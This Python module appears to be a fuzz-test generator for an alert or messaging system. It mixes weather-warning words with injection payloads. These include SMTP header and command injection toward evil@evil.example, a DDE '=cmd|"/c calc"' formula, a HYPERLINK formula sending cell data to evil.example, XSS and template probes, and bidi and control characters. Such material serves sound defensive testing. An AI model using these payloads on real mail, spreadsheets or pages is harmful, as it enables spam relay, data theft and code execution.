"""Texts that try to be more than text: in a mail's headers, on a telephone's screen, in a spreadsheet's cell."""

from random import Random

LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\n\r",
    "\v",
    "\f",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\r\r\n",
    "\0\n",
)
HEADERS = (
    "Bcc: victim@people.example",
    "To: victim@people.example",
    "Content-Type: text/html",
    "Content-Transfer-Encoding: quoted-printable",
    "List-Unsubscribe: <https://evil.example/>",
    "Reply-To: <evil@evil.example>",
    "X-Outlet-Level: red",
    "Id: 1-1",
    " folded: as if it went on",
    "\tfolded",
)
ENDS = (
    "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@people.example>\r\nDATA\r\nx\r\n.\r\n",
    "\n.\nMAIL FROM:<evil@evil.example>\n",
    "\r.\r",
    "\r\n.\n",
    "\n.\r\n",
    "\r\n\r\n<script>alert(1)</script>",
    "\r\n\r\n--=_boundary--\r\n",
    "\r\n\r\n--=_",
    ".",
    "\n.",
    "..",
    "From evil@evil.example Thu Jan  1 00:00:00 2026",
)
ENCODED = (
    "=?utf-8?Q?=0D=0ABcc=3A_victim=40people.example?=",
    "=?utf-8?B?DQpCY2M6IHZpY3RpbUBwZW9wbGUuZXhhbXBsZQ==?=",
    "=?utf-16?B?DQA=?=",
    "=?us-ascii?Q?=E2=80=AE?=",
    "=?",
    "?=",
)
CONTROLS = tuple(chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0)))
DIRECTIONS = tuple("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
STRANGE = (
    "\ud800",
    "\udfff",
    "\ufffe",
    "\U0010ffff",
    "\ue000",
    "\ufeff",
    "\u0378",
    "\x1b[2J\x1b[31m",
    "\x07",
    "\b" * 9,
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=cmd|"/c calc"!A0',
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    '","=1+1',
    "',=1+1",
    ";=1+1",
    "\t=1+1\t=1",
    '";"=1+1',
    "x\n=1+1",
    "x\r\n=1+1,=2",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    " =1+1",
)
MARKUP = (
    "<script>",
    "</body>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7*7 }}",
    "{% raw %}",
    "&lt;",
    "<a href=//evil.example>",
)
PIECES = (LINE_ENDS, HEADERS, ENDS, ENCODED, CONTROLS, DIRECTIONS, STRANGE, FORMULAS, MARKUP)
WORDS = (
    "暴雨红色预警",
    "请立即转移避险。",
    "Leave low ground",
    "at once",
    "{}",
    "①",
    "é",
    "🌧",
    " ",
    "330604",
    "a@b.example",
    "https://x.example/w",
)


def attack(random: Random) -> str:
    """One text: words with pieces of some kinds between them, in front of them and behind them."""
    parts: list[str] = []
    for _ in range(random.randint(1, 5)):
        kind = random.choice(PIECES)
        parts.append(random.choice(LINE_ENDS) if kind is HEADERS else "")
        parts.append(random.choice(kind))
        parts.append(random.choice(WORDS) if random.random() < 0.6 else "")
    if random.random() < 0.5:
        parts.insert(0, random.choice(WORDS))
    if random.random() < 0.02:
        parts.insert(random.randrange(len(parts)), random.choice(WORDS) * random.randint(50, 150))
    return "".join(parts)


def attacked_address(random: Random, sound: str) -> str:
    """A sound address with an attack in it somewhere, or beside it."""
    place = random.choice((0, len(sound), random.randrange(len(sound))))
    return sound[:place] + attack(random) + sound[place:]
